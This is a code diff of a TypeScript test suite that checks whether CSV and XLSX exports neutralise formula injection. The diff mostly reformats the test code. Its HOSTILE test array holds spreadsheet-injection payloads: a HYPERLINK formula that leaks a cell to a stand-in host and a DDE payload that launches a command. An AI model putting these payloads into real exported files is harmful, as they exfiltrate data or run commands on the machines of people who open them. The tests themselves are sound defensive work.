@@ -7,7 +7,7 @@ import ExcelJS from 'exceljs';
 import { csvBlob, formulaLike, xlsxBlob } from '../../admin/src/export/xlsx.ts';
 import { exportColumns, type Column } from '../../admin/src/export/columns.ts';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
 const HARMLESS = ['-12.5', '42', '张三', '341324********123X', 'a=b', ''];
 const columns: Column[] = [{ key: 'v', header: '值', value: (r) => r.v }];
 
@@ -18,14 +18,23 @@ describe('formula-like cells', () => {
   });
 
   it('get a leading single quote in CSV, and nothing else changes', async () => {
-    const text = await csvBlob(columns, [...HOSTILE, ...HARMLESS].map((v) => ({ v }))).text();
-    const cells = parseCsv(text.replace(/^\uFEFF/, '')).slice(1).map((row) => row[0]);
+    const text = await csvBlob(
+      columns,
+      [...HOSTILE, ...HARMLESS].map((v) => ({ v })),
+    ).text();
+    const cells = parseCsv(text.replace(/^\uFEFF/, ''))
+      .slice(1)
+      .map((row) => row[0]);
     expect(cells).toEqual([...HOSTILE.map((v) => `'${v}`), ...HARMLESS]);
     for (const cell of cells) expect(cell!, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
   });
 
   it('are text cells in xlsx: the same characters, no formula, the Text format', async () => {
-    const blob = await xlsxBlob('导出', columns, [...HOSTILE, ...HARMLESS].map((v) => ({ v })));
+    const blob = await xlsxBlob(
+      '导出',
+      columns,
+      [...HOSTILE, ...HARMLESS].map((v) => ({ v })),
+    );
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(await blob.arrayBuffer());
     const sheet = workbook.worksheets[0]!;
@@ -65,16 +74,25 @@ function parseCsv(text: string): string[][] {
   const rows: string[][] = [[]];
   let field = '';
   let quoted = false;
+  const endField = () => {
+    rows.at(-1)!.push(field);
+    field = '';
+  };
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (c === '"') quoted = false;
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') rows.at(-1)!.push(field), (field = '');
-    else if (c === '\r' && text[i + 1] === '\n') rows.at(-1)!.push(field), (field = ''), rows.push([]), i++;
-    else field += c;
+    else if (c === ',') endField();
+    else if (c === '\r' && text[i + 1] === '\n') {
+      endField();
+      rows.push([]);
+      i++;
+    } else field += c;
   }
   rows.at(-1)!.push(field);
   return rows;
